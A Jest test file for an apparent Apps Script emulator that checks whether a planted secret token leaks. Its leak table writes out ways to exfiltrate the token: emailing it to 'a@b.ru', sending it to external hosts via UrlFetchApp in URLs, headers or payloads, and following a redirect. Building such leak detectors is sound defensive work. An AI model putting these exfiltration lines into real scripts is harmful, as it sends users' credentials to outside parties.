import { PLANTED } from './plantedSecrets';
import { answering, smallWorld } from './support/smallWorld';
import type { World } from './world';

const SECRET = `${PLANTED}-of-the-test`;

const CODE = `
function secret() { return PropertiesService.getScriptProperties().getProperty('token'); }
function go(e) {
  const s = secret();
  const book = SpreadsheetApp.getActiveSpreadsheet();
  const sheet = book.getSheets()[0];
  const ui = () => SpreadsheetApp.getUi();
  return eval(e.expression);
}
function page(e) { const s = secret(); const ui = SpreadsheetApp.getUi(); return eval('(' + e.expression + ')'); }
function onEdit() {}
function clean() { SpreadsheetApp.getActiveSpreadsheet().getSheets()[0].getRange(2, 2).clearContent(); }
function idle() {}`;

function world(options: Parameters<typeof smallWorld>[1] = {}): World {
  const made = smallWorld(CODE, options);
  made.properties().set('token', SECRET);
  return made;
}

const LEAKS: [expression: string, place: string][] = [
  [`sheet.getRange('A1').setValue('x ' + s)`, 'Range.setValue'],
  [`sheet.getRange('A1:B1').setValues([[1, s]])`, 'Range.setValues'],
  [`sheet.appendRow([s])`, 'Sheet.appendRow'],
  [`sheet.getRange('A1').setFormula('="' + s + '"')`, 'Range.setFormula'],
  [`sheet.getRange('A1').setNote(s)`, 'Range.setNote'],
  [`sheet.getRange('A1').setNumberFormat('"' + s + '"')`, 'Range.setNumberFormat'],
  [`sheet.setName(s)`, 'Sheet.setName'],
  [`book.insertSheet(s)`, 'Spreadsheet.insertSheet'],
  [`book.toast(s)`, 'Spreadsheet.toast'],
  [`sheet.addDeveloperMetadata('key', s)`, 'Sheet.addDeveloperMetadata'],
  [`book.addDeveloperMetadata(s)`, 'Spreadsheet.addDeveloperMetadata'],
  [`sheet.protect().setDescription(s)`, 'Protection.setDescription'],
  [`SpreadsheetApp.newDataValidation().setHelpText(s)`, 'DataValidationBuilder.setHelpText'],
  [`MailApp.sendEmail('a@b.ru', 'subject', s)`, 'MailApp.sendEmail'],
  [`MailApp.sendEmail({ to: 'a@b.ru', subject: '', htmlBody: s })`, 'MailApp.sendEmail'],
  [`console.log('token', { token: s })`, 'the log'],
  [`Logger.log(s)`, 'Logger.log'],
  [`ui().alert(s)`, 'Ui.alert'],
  [`ui().prompt('Title', s, ui().ButtonSet.OK)`, 'Ui.prompt'],
  [`ui().createMenu(s)`, 'Ui.createMenu'],
  [`ui().createMenu('m').addItem(s, 'go')`, 'Menu.addItem'],
  [`HtmlService.createHtmlOutput('<p>' + s)`, 'HtmlService.createHtmlOutput'],
  [`HtmlService.createHtmlOutput('').setTitle(s)`, 'HtmlOutput.setTitle'],
  [`ScriptApp.newTrigger(s)`, 'ScriptApp.newTrigger'],
  [`ScriptApp.newStateToken().withArgument('a', s)`, 'StateTokenBuilder.withArgument'],
  [
    `PropertiesService.getUserProperties().setProperty('a', s)`,
    'the properties of the user owner@example.com',
  ],
  [`PropertiesService.getDocumentProperties().setProperties({ a: s })`, 'the properties of the document'],
  [`CacheService.getScriptCache().put('a', s)`, 'Cache.put'],
  [`UrlFetchApp.fetch('https://me.amocrm.ru/?token=' + s)`, 'the address of a request'],
  [
    `UrlFetchApp.fetch('https://example.com/', { headers: { Authorization: s } })`,
    'a request to https://example.com',
  ],
  [
    `UrlFetchApp.fetchAll([{ url: 'https://amocrm.ru.example.com/', method: 'post', payload: { s } }])`,
    'a request to https://amocrm.ru.example.com',
  ],
  [
    `UrlFetchApp.fetch('http://me.amocrm.ru/', { headers: { Authorization: s } })`,
    'a request to http://me.amocrm.ru',
  ],
  [`(() => { throw new Error('bad token ' + s); })()`, 'the error'],
];

describe('a planted secret', () => {
  it.each(LEAKS)('gets out by %s', (expression, place) => {
    let message = '';
    try {
      world().run('go', { event: { expression }, answers: () => 'OK' });
    } catch (error) {
      message = (error as Error).message;
    }
    expect(message).toBe(`A planted secret got out: ${place}`);
  });

  it('gets out even if the script swallows every error', () => {
    const expression = `(() => { try { sheet.getRange('A1').setValue(s); } catch (e) {} })()`;
    expect(() => world().run('go', { event: { expression } })).toThrow('Range.setValue');
  });

  it('gets out by an answer to a page, not by what a menu returns', () => {
    expect(() => world().callFromPage('page', { expression: '{ deep: [{ token: s }] }' })).toThrow(
      'A planted secret got out: the answer to the page',
    );
    expect(() => world().callFromPage('page', { expression: '{ [s]: 1 }' })).toThrow(
      'the answer to the page',
    );
    expect(world().run('go', { event: { expression: 's' } }).value).toBe(SECRET);
  });

  it('gets out by a redirect to another host', () => {
    const network = answering(({ url }) =>
      url.includes('amocrm') ? { status: 302, headers: { location: 'https://example.com/' } } : {},
    );
    const expression = `UrlFetchApp.fetch('https://me.amocrm.ru/', { headers: { Authorization: s } })`;
    expect(() => world({ network }).run('go', { event: { expression } })).toThrow(
      'a request to https://example.com',
    );
  });

  it.each([
    `UrlFetchApp.fetch('https://me.amocrm.ru/api', { headers: { Authorization: 'Bearer ' + s } })`,
    `UrlFetchApp.fetch('https://www.kommo.com/oauth2', { method: 'post', payload: JSON.stringify({ s }) })`,
    `PropertiesService.getScriptProperties().setProperties({ a: s })`,
    `Utilities.base64Encode(s)`,
    `ui().prompt('Token?').getResponseText()`,
  ])('may stay where %s puts it', expression => {
    const answers = () => ({ text: SECRET });
    expect(world().run('go', { event: { expression }, answers }).error).toBeUndefined();
  });
});

describe('a planted secret that a person types into a cell', () => {
  const typed = (): World => {
    const made = world();
    made.type(0, 2, 2, SECRET);
    return made;
  };

  it('must be gone when the next execution has ended that is no simple trigger', () => {
    const clean = typed();
    expect(clean.run('clean').error).toBeUndefined();
    expect(clean.run('idle').error).toBeUndefined();
    const left = typed();
    left.workbook.user.insertRows(0, 1);
    expect(() => left.run('idle', { context: 'clock' })).toThrow(
      'A planted secret got out: the cell B3 of "Лист1", where a person typed it, still holds it',
    );
    expect(() => left.run('idle')).toThrow('B3');
  });

  it('may stay as long as executions are killed or fail', () => {
    const left = typed();
    expect(left.run('clean', { cut: { at: 1, when: 'before' } }).killed).toBe('cut');
    expect(left.run('go', { event: { expression: 'nothing' } }).error).toBeDefined();
    expect(left.run('clean').error).toBeUndefined();
  });
});
